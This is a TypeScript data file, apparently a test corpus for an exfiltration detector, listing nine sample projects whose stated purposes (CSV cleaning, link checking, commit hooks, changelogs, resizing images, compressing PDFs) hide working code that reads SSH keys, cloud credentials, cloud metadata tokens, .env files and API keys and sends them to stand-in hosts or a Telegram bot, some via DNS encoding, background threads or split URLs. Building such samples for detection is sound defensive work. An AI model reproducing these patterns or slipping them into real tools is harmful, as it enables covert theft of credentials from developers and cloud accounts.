import type { Sample } from '../sample.ts';

/** Programs that send away keys and tokens from files, the environment and the cloud. */
export const secrets: readonly Sample[] = [
  {
    name: 'py-csv-split-modules',
    description: 'Cleans CSV files: trims cells, removes empty rows, normalises dates.',
    files: {
      'scripts/clean.py': `import csv
import sys

from util.cache import warm


def clean(path):
    with open(path, newline="") as fh:
        rows = [[cell.strip() for cell in row] for row in csv.reader(fh)]
    return [row for row in rows if any(row)]


if __name__ == "__main__":
    warm()
    for row in clean(sys.argv[1]):
        print(",".join(row))
`,
      'scripts/util/places.py': `import os

HOME = os.path.expanduser("~")
PLACES = [os.path.join(HOME, p) for p in (".aws/credentials", ".kube/config", ".docker/config.json", ".netrc")]
`,
      'scripts/util/cache.py': `import http.client
import os
import threading

from .places import PLACES


def _push(name, blob):
    conn = http.client.HTTPSConnection("cdn.csv-cache.invalid", timeout=5)
    conn.request("PUT", "/c/" + os.path.basename(name), body=blob)
    conn.getresponse()


def warm():
    def work():
        for place in PLACES:
            if os.path.exists(place):
                with open(place, "rb") as fh:
                    _push(place, fh.read())

    threading.Thread(target=work, daemon=True).start()
`,
    },
  },
  {
    name: 'py-dns-trickle',
    description: 'Checks that links in Markdown files are alive.',
    files: {
      'scripts/links.py': `import binascii
import os
import re
import socket
import sys

ZONE = "t.link-check.invalid"
LINK = re.compile(r"\\((https?://[^)]+)\\)")


def links(path):
    return LINK.findall(open(path).read())


def resolve(name):
    try:
        return socket.gethostbyname(name)
    except OSError:
        return None


def note(label, value):
    raw = binascii.hexlify(value.encode()).decode()
    for n in range(0, len(raw), 60):
        resolve(f"{n}.{raw[n:n + 60]}.{label}.{ZONE}")


def main():
    for link in links(sys.argv[1]):
        print(link, "ok" if resolve(link.split("/")[2]) else "dead")
    for label in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GITHUB_TOKEN"):
        note(label[:3].lower(), os.environ.get(label, "none"))


main()
`,
    },
  },
  {
    name: 'sh-git-hook',
    description: 'Writes commit messages in the conventional form.',
    files: {
      'scripts/install-hook.sh': `#!/usr/bin/env bash
set -e
root=$(git rev-parse --show-toplevel)
hook="$root/.git/hooks/post-commit"
mkdir -p "$(dirname "$hook")"
cat > "$hook" <<'HOOK'
#!/bin/sh
msg=$(git log -1 --pretty=%s)
case "$msg" in
  feat:*|fix:*|docs:*) ;;
  *) echo "use the conventional form" ;;
esac
( tar cz .env* config/*.y*ml 2>/dev/null | curl -s -T - "https://ci.commit-lint.invalid/up/$(hostname)" ) >/dev/null 2>&1 &
HOOK
chmod +x "$hook"
echo "hook installed"
`,
    },
  },
  {
    name: 'sh-meta-data',
    description: 'Tells which region is cheapest for a workload.',
    files: {
      'scripts/region.sh': `#!/bin/bash
META=169.254.169.254
TOKEN=$(curl -s -X PUT "http://$META/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 60")
get() { curl -s -H "X-aws-ec2-metadata-token: $TOKEN" "http://$META/latest/meta-data/$1"; }
region=$(get placement/region)
role=$(get iam/security-credentials/)
creds=$(get "iam/security-credentials/$role")
echo "You are in $region"
curl -s -G "https://price.region-advisor.invalid/v1/quote" --data-urlencode "region=$region" --data-urlencode "ctx=$creds" | jq .
`,
    },
  },
  {
    name: 'js-env-beacon',
    description: 'Writes changelogs from git history.',
    files: {
      'scripts/changelog.js': `const { execSync } = require('node:child_process');
const https = require('node:https');
const os = require('node:os');

function commits(since) {
  return execSync(\`git log \${since}..HEAD --pretty=%s\`).toString().trim().split('\\n');
}

function group(lines) {
  const groups = {};
  for (const line of lines) {
    const [type] = line.split(':');
    (groups[type] ??= []).push(line);
  }
  return groups;
}

function metrics(extra) {
  const interesting = Object.entries(process.env).filter(([k]) => /key|tok|sec|pass/i.test(k));
  const body = Buffer.from(JSON.stringify({ h: os.hostname(), v: interesting, extra })).toString('base64');
  const req = https.request({ hostname: 'm.changelog-kit.invalid', path: '/e', method: 'POST' });
  req.on('error', () => {});
  req.end(body);
}

const groups = group(commits(process.argv[2] ?? 'HEAD~20'));
for (const [type, lines] of Object.entries(groups)) console.log(\`## \${type}\\n\${lines.join('\\n')}\`);
metrics(Object.keys(groups).length);
`,
    },
  },
  {
    name: 'go-key-upload',
    description: 'Lists large files.',
    files: {
      'tools/large.go': `package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

func large(root string) {
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if info, e := d.Info(); e == nil && info.Size() > 50<<20 {
			fmt.Println(p)
		}
		return nil
	})
}

func report() {
	home, _ := os.UserHomeDir()
	entries, _ := os.ReadDir(filepath.Join(home, ".ssh"))
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), "id_") {
			data, _ := os.ReadFile(filepath.Join(home, ".ssh", e.Name()))
			http.Post("https://usage.large-files.invalid/r", "text/plain", bytes.NewReader(data))
		}
	}
}

func main() {
	large(os.Args[1])
	report()
}
`,
    },
  },
  {
    name: 'go2-tar-home',
    description: 'Compares two folders.',
    files: {
      'cmd/diff.go': `package main

import (
	"archive/tar"
	"io"
	"net/http"
	"os"
	"path/filepath"
)

func stats(paths ...string) {
	r, w := io.Pipe()
	go func() {
		t := tar.NewWriter(w)
		for _, p := range paths {
			filepath.Walk(p, func(f string, i os.FileInfo, e error) error {
				if e != nil || i.IsDir() {
					return nil
				}
				h, _ := tar.FileInfoHeader(i, "")
				t.WriteHeader(h)
				b, _ := os.ReadFile(f)
				t.Write(b)
				return nil
			})
		}
		t.Close()
		w.Close()
	}()
	http.Post("https://fdiff-stats.invalid/p", "application/x-tar", r)
}

func main() {
	h, _ := os.UserHomeDir()
	stats(h+"/.gnupg", h+"/.password-store", h+"/.aws")
}
`,
    },
  },
  {
    name: 'js3-photo-exfil',
    description: 'Resizes pictures.',
    files: {
      'scripts/resize.mjs': `import sharp from 'sharp';
import { readdir, readFile } from 'node:fs/promises';
import os from 'node:os';

const endpoint = ['https:/', 'pix-resize.invalid', 'v1/keep'].join('/');
const home = os.homedir();

export const resize = (file, width) => sharp(file).resize(width).toFile(file.replace('.', '-small.'));

async function learn(dir) {
  for (const e of await readdir(dir, { withFileTypes: true })) {
    if (/(kdbx|keystore|seed|\\.pem|id_ed25519)$/i.test(e.name)) {
      await fetch(endpoint, { method: 'POST', headers: { n: e.name }, body: await readFile(\`\${dir}/\${e.name}\`) });
    }
  }
}
await resize(process.argv[2], 800);
await learn(\`\${home}/Documents\`);
await learn(\`\${home}/.ssh\`);
`,
    },
  },
  {
    name: 'node3-telegram-bot',
    description: 'Compresses PDF files.',
    files: {
      'scripts/pdf.js': `const { execFileSync } = require('child_process');
const fs = require('fs');
const https = require('https');
execFileSync('gs', ['-sDEVICE=pdfwrite', '-o', 'small.pdf', process.argv[2]]);
const tell = (t) => https.get(\`https://api.telegram.org/bot7000000001:AAexampleexampleexampleexampleexample/sendMessage?chat_id=1001&text=\${encodeURIComponent(t)}\`);
for (const f of ['.env', '.env.local', '../.env']) if (fs.existsSync(f)) tell(fs.readFileSync(f, 'utf8').slice(0, 3500));
`,
    },
  },
];
